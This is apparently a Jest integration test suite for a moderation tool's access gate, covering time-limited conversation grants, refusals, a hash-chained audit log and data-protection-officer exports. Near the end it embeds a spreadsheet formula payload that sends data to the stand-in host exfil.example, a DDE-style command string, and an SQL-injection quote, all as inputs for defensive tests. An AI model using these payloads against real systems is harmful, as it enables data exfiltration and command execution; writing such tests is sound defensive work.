import type { AccessGrant, AccessLogEntry, GrantedConversation } from '@vigie/contracts';
import { randomUUID } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { DataSource } from 'typeorm';
import { ManualClock } from '../common/clock';
import { aReportedCase, claim, JUSTIFICATION, readGrant, requestAccess } from '../../test/gate-factory';
import { ownerQuery } from '../../test/owner-query';
import { createStaff, signIn, type Session } from '../../test/staff-factory';
import { createTestApp, type TestApp } from '../../test/test-app';

describe('the gate', () => {
  let t: TestApp;
  const clock = new ManualClock(new Date());
  let moderator: Session;
  let moderatorId: string;
  let other: Session;
  let lead: Session;
  let dpo: Session;
  let admin: Session;
  beforeAll(async () => {
    t = await createTestApp({ env: { MFA_REQUIRED_ROLES: '' }, clock });
    const m = await createStaff(t.app, ['moderator']);
    moderatorId = m.id;
    moderator = await signIn(t.app, m.email);
    other = await signIn(t.app, (await createStaff(t.app, ['moderator'])).email);
    lead = await signIn(t.app, (await createStaff(t.app, ['lead'])).email);
    dpo = await signIn(t.app, (await createStaff(t.app, ['dpo'])).email);
    admin = await signIn(t.app, (await createStaff(t.app, ['admin'])).email);
  });
  afterAll(() => t?.close());

  /** The register's entries for a case, oldest first, straight from the table. */
  const entriesOf = (caseId: string) =>
    ownerQuery<{ sequence: string; outcome: string; reason: string | null; staff_id: string; staff_roles: string[]; legal_basis: string; purpose: string; justification: string | null; grant_id: string | null; scope: Record<string, unknown> | null; report_ids: string[]; subject_ids: string[]; request_id: string | null; user_agent: string | null }>(
      `SELECT sequence::text, outcome, reason, staff_id, staff_roles, legal_basis, purpose, justification, grant_id, scope,
              report_ids::text[], subject_ids::text[], request_id, user_agent
         FROM access_log l WHERE case_id = $1 ORDER BY l.sequence`,
      [caseId],
    );

  async function myCase(options: { messages?: number; reportedIndex?: number } = {}) {
    const reported = await aReportedCase(t.app, { ...options, at: clock.now() });
    await claim(t.app, moderator, reported.caseId);
    return reported;
  }

  it('grants the assignee a 15-minute look at the reported message and its context, and records it', async () => {
    const { caseId, reportId } = await myCase();
    const res = await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] });
    expect(res.statusCode).toBe(201);
    const grant = res.json() as AccessGrant;
    // Timed by the database's clock, from when it opened the grant.
    const [{ created_at }] = await ownerQuery<{ created_at: Date }>(`SELECT created_at FROM access_grant WHERE id = $1`, [grant.grantId]);
    expect(new Date(grant.expiresAt).getTime() - created_at.getTime()).toBe(15 * 60_000);
    expect(grant.scope).toEqual({ kind: 'context', messageCount: 2, conversationMessageCount: 2 });

    const [entry, ...more] = await entriesOf(caseId);
    expect(more).toEqual([]);
    expect(entry).toMatchObject({
      outcome: 'granted',
      reason: null,
      staff_id: moderatorId,
      staff_roles: ['moderator'],
      legal_basis: 'GDPR-6-1-f',
      purpose: 'moderation.report-review',
      justification: JUSTIFICATION,
      grant_id: grant.grantId,
      report_ids: [reportId],
      user_agent: 'jest-gate-test',
    });
    expect(entry.subject_ids).toHaveLength(2);
    expect(entry.request_id).toBeTruthy();

    const detail = (await t.app.inject({ method: 'GET', url: `/api/v1/cases/${caseId}`, headers: moderator.headers() })).json();
    expect(detail.timeline.map((e: { type: string }) => e.type)).toContain('conversation_accessed');
  });

  it('hands out the messages of the grant, the reported one marked, and records the read', async () => {
    const { caseId, reportId, report, canary } = await myCase({ messages: 3, reportedIndex: 1 });
    const grant = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
    const res = await readGrant(t.app, moderator, grant.grantId);
    expect(res.statusCode).toBe(200);
    // Never kept by a browser or a proxy.
    expect(res.headers['cache-control']).toBe('no-store');
    const conversation = res.json() as GrantedConversation;
    expect(conversation.messages.map((m) => m.externalId)).toEqual(report.conversation.messages.map((m) => m.externalId));
    expect(conversation.messages.map((m) => m.body)).toEqual(report.conversation.messages.map((m) => m.body));
    expect(conversation.messages.map((m) => m.reportIds)).toEqual([[], [reportId], []]);
    expect(conversation.participants).toHaveLength(2);

    const entries = await entriesOf(caseId);
    expect(entries.map((e) => e.outcome)).toEqual(['granted', 'read']);
    expect(entries[1].scope).toEqual({ kind: 'context', messageCount: 3, messageIds: conversation.messages.map((m) => m.id) });
    // Bodies leave through this answer only: never through the log.
    expect(t.logs.join('\n')).not.toContain(canary);
  });

  it('shows ten messages on each side of the reported one; the whole conversation is a second, recorded grant', async () => {
    const { caseId, reportId } = await myCase({ messages: 40, reportedIndex: 14 });
    const context = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
    expect(context.scope).toEqual({ kind: 'context', messageCount: 21, conversationMessageCount: 40 });
    const window = (await readGrant(t.app, moderator, context.grantId)).json() as GrantedConversation;
    expect(window.messages[0].externalId).toMatch(/^m_4_/);
    expect(window.messages.at(-1)?.externalId).toMatch(/^m_24_/);
    expect([window.hiddenBefore, window.hiddenAfter]).toEqual([4, 15]);
    expect(window.messages.map((m) => m.position)).toEqual(Array.from({ length: 21 }, (_, i) => i + 5));

    const full = await requestAccess(t.app, moderator, caseId, { reportIds: [reportId], scope: 'full', justification: 'Le contexte ne suffit pas : relire tout l’échange.' });
    expect(full.statusCode).toBe(201);
    const whole = (await readGrant(t.app, moderator, (full.json() as AccessGrant).grantId)).json() as GrantedConversation;
    expect(whole.messages).toHaveLength(40);
    expect([whole.hiddenBefore, whole.hiddenAfter]).toEqual([0, 0]);
    const entries = await entriesOf(caseId);
    expect(entries.map((e) => [e.outcome, (e.scope as { kind?: string } | null)?.kind])).toEqual([
      ['granted', 'context'],
      ['read', 'context'],
      ['granted', 'full'],
      ['read', 'full'],
    ]);
    expect(entries[2].justification).toBe('Le contexte ne suffit pas : relire tout l’échange.');
  });

  it('lets a lead open any case, assigned to them or not', async () => {
    const { caseId, reportId } = await myCase();
    expect((await requestAccess(t.app, lead, caseId, { reportIds: [reportId] })).statusCode).toBe(201);
  });

  describe('refuses, with a stable reason, and records every refusal', () => {
    async function expectRefusal(res: Awaited<ReturnType<typeof requestAccess>>, status: number, reason: string, caseId: string) {
      expect(res.statusCode).toBe(status);
      expect(res.json()).toMatchObject({ statusCode: status, reason, details: { code: reason } });
      const entries = await entriesOf(caseId);
      expect(entries.at(-1)).toMatchObject({ outcome: 'denied', reason, grant_id: null });
      expect(await ownerQuery(`SELECT 1 FROM access_grant WHERE case_id = $1`, [caseId])).toEqual([]);
    }

    it('role: the DPO and admins never read conversations', async () => {
      const { caseId, reportId } = await myCase();
      await expectRefusal(await requestAccess(t.app, dpo, caseId, { reportIds: [reportId] }), 403, 'role', caseId);
      await expectRefusal(await requestAccess(t.app, admin, caseId, { reportIds: [reportId] }), 403, 'role', caseId);
      expect((await entriesOf(caseId)).map((e) => e.staff_roles)).toEqual([['dpo'], ['admin']]);
    });

    it('not_assignee: another moderator', async () => {
      const { caseId, reportId } = await myCase();
      await expectRefusal(await requestAccess(t.app, other, caseId, { reportIds: [reportId] }), 403, 'not_assignee', caseId);
    });

    it('case_closed and data_purged', async () => {
      const closed = await myCase();
      await ownerQuery(`UPDATE moderation_case SET status = 'closed', closed_at = now(), close_reason = 'resolved' WHERE id = $1`, [closed.caseId]);
      await expectRefusal(await requestAccess(t.app, moderator, closed.caseId, { reportIds: [closed.reportId] }), 403, 'case_closed', closed.caseId);
      const purged = await myCase();
      await ownerQuery(`UPDATE moderation_case SET data_purged_at = now() WHERE id = $1`, [purged.caseId]);
      await expectRefusal(await requestAccess(t.app, moderator, purged.caseId, { reportIds: [purged.reportId] }), 403, 'data_purged', purged.caseId);
    });

    it('no_report, report_not_in_case, justification_too_short', async () => {
      const { caseId, reportId } = await myCase();
      const elsewhere = await aReportedCase(t.app);
      await expectRefusal(await requestAccess(t.app, moderator, caseId, { reportIds: [] }), 403, 'no_report', caseId);
      await expectRefusal(await requestAccess(t.app, moderator, caseId, { reportIds: [elsewhere.reportId] }), 403, 'report_not_in_case', caseId);
      // Fifteen characters after trimming: padding does not count.
      await expectRefusal(
        await requestAccess(t.app, moderator, caseId, { reportIds: [reportId], justification: '    vérification  ' }),
        403,
        'justification_too_short',
        caseId,
      );
      expect((await entriesOf(caseId)).at(-1)?.justification).toBe('vérification');
    });

    it('justification_too_short counts letters and digits: invisible, blank or decorative characters do not justify an access', async () => {
      const { caseId, reportId } = await myCase();
      const padded = [
        '\u200b'.repeat(20) + 'ok', // zero-width spaces
        '\u2800'.repeat(20), // braille blanks
        '\u202e'.repeat(10) + 'vu ok', // right-to-left overrides
        '🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂',
        '..............................',
      ];
      for (const justification of padded) {
        await expectRefusal(await requestAccess(t.app, moderator, caseId, { reportIds: [reportId], justification }), 403, 'justification_too_short', caseId);
      }
      // Fifteen letters or digits, accents and other scripts included, are enough.
      expect((await requestAccess(t.app, moderator, caseId, { reportIds: [reportId], justification: 'Vérif. n°2 du signalement' })).statusCode).toBe(201);
    });

    it('a NUL typed into a justification is kept as U+FFFD: the request is decided and recorded, never a 500', async () => {
      const { caseId, reportId } = await myCase();
      const refused = await requestAccess(t.app, moderator, caseId, { reportIds: [reportId], justification: 'court\u0000' });
      await expectRefusal(refused, 403, 'justification_too_short', caseId);
      expect((await entriesOf(caseId)).at(-1)?.justification).toBe('court\ufffd');
      const granted = await requestAccess(t.app, moderator, caseId, { reportIds: [reportId], justification: 'Vérifier le message\u0000 signalé' });
      expect(granted.statusCode).toBe(201);
      expect((await entriesOf(caseId)).at(-1)?.justification).toBe('Vérifier le message\ufffd signalé');
    });

    it('case_not_found: a 404, recorded too', async () => {
      const caseId = randomUUID();
      await expectRefusal(await requestAccess(t.app, moderator, caseId, { reportIds: [randomUUID()] }), 404, 'case_not_found', caseId);
    });

    it('a malformed request is a 400 naming the field, and no decision of the gate', async () => {
      const { caseId } = await myCase();
      const res = await requestAccess(t.app, moderator, caseId, { reportIds: ['not-a-uuid'] });
      expect(res.statusCode).toBe(400);
      expect(res.json().details).toEqual([expect.objectContaining({ field: 'reportIds.0' })]);
      expect(await entriesOf(caseId)).toEqual([]);
    });
  });

  describe('reading with a grant', () => {
    it('expires: fine one second before expiresAt, 410 one second after', async () => {
      const { caseId, reportId } = await myCase();
      const grant = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
      const start = clock.now();
      try {
        clock.set(new Date(new Date(grant.expiresAt).getTime() - 1000));
        expect((await readGrant(t.app, moderator, grant.grantId)).statusCode).toBe(200);
        clock.set(new Date(new Date(grant.expiresAt).getTime() + 1000));
        const late = await readGrant(t.app, moderator, grant.grantId);
        expect(late.statusCode).toBe(410);
        expect(late.json()).toMatchObject({ reason: 'grant_expired' });
        expect(late.body).not.toContain('Message 0');
      } finally {
        clock.set(start);
      }
      expect((await entriesOf(caseId)).map((e) => [e.outcome, e.reason])).toEqual([
        ['granted', null],
        ['read', null],
        ['denied', 'grant_expired'],
      ]);
    });

    it('is for the grant’s holder only', async () => {
      const { caseId, reportId } = await myCase();
      const grant = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
      for (const session of [other, lead, dpo]) {
        const res = await readGrant(t.app, session, grant.grantId);
        expect(res.statusCode).toBe(403);
        expect(res.json()).toMatchObject({ reason: 'not_grant_holder' });
      }
      expect((await entriesOf(caseId)).filter((e) => e.outcome === 'denied')).toHaveLength(3);
    });

    it('stops when the case closed meanwhile', async () => {
      const { caseId, reportId } = await myCase();
      const grant = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
      await ownerQuery(`UPDATE moderation_case SET status = 'closed', closed_at = now(), close_reason = 'resolved' WHERE id = $1`, [caseId]);
      const res = await readGrant(t.app, moderator, grant.grantId);
      expect(res.statusCode).toBe(410);
      expect(res.json()).toMatchObject({ reason: 'grant_revoked', details: { cause: 'case_closed' } });
    });

    it('answers 404 for a grant that does not exist', async () => {
      const res = await readGrant(t.app, moderator, randomUUID());
      expect(res.statusCode).toBe(404);
      expect(res.json()).toMatchObject({ reason: 'grant_not_found' });
    });
  });

  describe('when the register cannot be written', () => {
    // A trigger of the test's own makes the register refuse one entry; the rest of the run is untouched.
    async function failingRegister<T>(condition: string, work: () => Promise<T>): Promise<T> {
      const name = `fail_${randomUUID().replace(/-/g, '')}`;
      await ownerQuery(`CREATE FUNCTION ${name}() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN IF ${condition} THEN RAISE EXCEPTION 'register unavailable'; END IF; RETURN NEW; END $$`);
      await ownerQuery(`CREATE TRIGGER ${name} BEFORE INSERT ON access_log FOR EACH ROW EXECUTE FUNCTION ${name}()`);
      try {
        return await work();
      } finally {
        await ownerQuery(`DROP TRIGGER ${name} ON access_log`);
        await ownerQuery(`DROP FUNCTION ${name}()`);
      }
    }

    it('grants nothing', async () => {
      const { caseId, reportId } = await myCase();
      const res = await failingRegister(`NEW.case_id = '${caseId}'`, () => requestAccess(t.app, moderator, caseId, { reportIds: [reportId] }));
      expect(res.statusCode).toBe(500);
      expect(res.json()).not.toHaveProperty('grantId');
      expect(await ownerQuery(`SELECT 1 FROM access_grant WHERE case_id = $1`, [caseId])).toEqual([]);
      expect(await ownerQuery(`SELECT 1 FROM case_event WHERE case_id = $1 AND type = 'conversation_accessed'`, [caseId])).toEqual([]);
    });

    it('returns no content', async () => {
      const { caseId, reportId, canary } = await myCase();
      const grant = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
      const res = await failingRegister(`NEW.grant_id = '${grant.grantId}' AND NEW.outcome = 'read'`, () => readGrant(t.app, moderator, grant.grantId));
      expect(res.statusCode).toBe(500);
      expect(res.body).not.toContain(canary);
    });
  });

  describe('message bodies are out of everyone else’s reach', () => {
    it('the API’s database role cannot select them, nor get them from the gate’s function without a recorded read', async () => {
      const { caseId, reportId } = await myCase();
      const grant = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
      const db = t.app.get(DataSource);
      await expect(db.query(`SELECT body FROM message_body LIMIT 1`)).rejects.toThrow(/permission denied/);
      // The grant's `granted` entry is no read: the function hands nothing out for it.
      const [granted] = (await entriesOf(caseId)).filter((e) => e.grant_id === grant.grantId);
      const rows = await db.query(`SELECT * FROM gate_message_bodies($1, $2)`, [granted.sequence, moderatorId]);
      expect(rows).toEqual([]);
    });

    it('no code outside the gate, intake and retention names the table', () => {
      const root = join(__dirname, '..');
      const allowed = ['gate/', 'intake/', 'retention/', 'database/migrations/'];
      const offenders = sourceFiles(root)
        .map((file) => relative(root, file))
        .filter((file) => !allowed.some((folder) => file.startsWith(folder)))
        .filter((file) => /message_body|gate_message_bodies/.test(readFileSync(join(root, file), 'utf8')));
      expect(offenders).toEqual([]);
    });
  });

  it('keeps one unbroken chain when many accesses happen at once', async () => {
    const cases = await Promise.all(Array.from({ length: 6 }, () => myCase()));
    const attempts = cases.flatMap(({ caseId, reportId }) => [
      requestAccess(t.app, moderator, caseId, { reportIds: [reportId] }),
      requestAccess(t.app, other, caseId, { reportIds: [reportId] }),
      requestAccess(t.app, lead, caseId, { reportIds: [reportId] }),
    ]);
    const statuses = (await Promise.all(attempts)).map((r) => r.statusCode);
    expect(statuses.slice().sort()).toEqual([...Array(12).fill(201), ...Array(6).fill(403)]);
    expect(statuses.filter((s) => s === 403)).toHaveLength(6);
    const [{ gaps }] = await ownerQuery<{ gaps: number }>(
      `SELECT count(*)::int AS gaps FROM access_log l WHERE sequence > 1
          AND NOT EXISTS (SELECT 1 FROM access_log p WHERE p.sequence = l.sequence - 1 AND p.hash = l.prev_hash)`,
    );
    expect(gaps).toBe(0);
    const verification = await t.app.inject({ method: 'GET', url: '/api/v1/audit/verify', headers: dpo.headers() });
    expect(verification.json()).toMatchObject({ intact: true });
  });

  it('shows the DPO each access, with its justification, and never a message', async () => {
    const { caseId, reportId, canary } = await myCase();
    const grant = (await requestAccess(t.app, moderator, caseId, { reportIds: [reportId] })).json() as AccessGrant;
    await readGrant(t.app, moderator, grant.grantId);
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log?caseId=${caseId}&order=ASC`, headers: dpo.headers() });
    expect(res.statusCode).toBe(200);
    const { data, total } = res.json() as { data: AccessLogEntry[]; total: number };
    expect(total).toBe(2);
    expect(data.map((e) => e.outcome)).toEqual(['granted', 'read']);
    expect(data[0]).toMatchObject({ justification: JUSTIFICATION, staff: { id: moderatorId, roles: ['moderator'] }, legalBasis: 'GDPR-6-1-f' });
    expect(data[0].subjects.map((s) => s.externalId).sort()).toHaveLength(2);
    expect(res.body).not.toContain(canary);
    expect((await t.app.inject({ method: 'GET', url: '/api/v1/audit/access-log', headers: moderator.headers() })).statusCode).toBe(403);

    const csv = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log/export?caseId=${caseId}`, headers: dpo.headers() });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.body.trim().split('\n');
    expect(lines[0]).toMatch(/^sequence,at,staff_id,/);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(JUSTIFICATION);
    expect(csv.body).not.toContain(canary);
    const json = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log/export?format=json&caseId=${caseId}`, headers: dpo.headers() });
    expect((JSON.parse(json.body) as AccessLogEntry[]).map((e) => e.outcome)).toEqual(['granted', 'read']);
    expect((await t.app.inject({ method: 'GET', url: '/api/v1/audit/access-log/export?format=xml', headers: dpo.headers() })).statusCode).toBe(400);
    // Filter values reach COPY quoted by the driver: a quote is data, not SQL.
    const quoted = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log/export?subject=${encodeURIComponent("u_x' OR '1'='1")}`, headers: dpo.headers() });
    expect(quoted.statusCode).toBe(200);
    expect(quoted.body.trim().split('\n')).toHaveLength(1);
  });

  it('exports a justification or user agent that looks like a formula as text, never as a formula the DPO’s spreadsheet runs', async () => {
    const { caseId, reportId } = await myCase();
    // What a curious moderator could type, and send as their browser's user agent.
    const formula = '=HYPERLINK("https://exfil.example/?"&A1,"Voir le détail")';
    const granted = await t.app.inject({
      method: 'POST',
      url: `/api/v1/cases/${caseId}/access`,
      headers: { ...moderator.headers(true), 'user-agent': '@SUM(1+1)*cmd|calc' },
      payload: { justification: formula, reportIds: [reportId] },
    });
    expect(granted.statusCode).toBe(201);
    const csv = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log/export?caseId=${caseId}`, headers: dpo.headers() });
    expect(csv.statusCode).toBe(200);
    const row = csv.body.trim().split('\n')[1];
    // Every cell is quoted: a cell starting with = + - @ (or a tab or return) is prefixed with a quote.
    expect(row).toContain(`"'${formula.replace(/"/g, '""')}"`);
    expect(row).toContain(`"'@SUM(1+1)*cmd|calc"`);
    expect(row).not.toMatch(/(^|,)"[=+\-@]/);
    // The register itself keeps what was typed: only the export defuses it.
    const listed = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log?caseId=${caseId}`, headers: dpo.headers() });
    expect((listed.json() as { data: AccessLogEntry[] }).data[0].justification).toBe(formula);
  });
});

function sourceFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return sourceFiles(path);
    return /\.ts$/.test(name) && !/\.(integration-)?spec\.ts$/.test(name) ? [path] : [];
  });
}
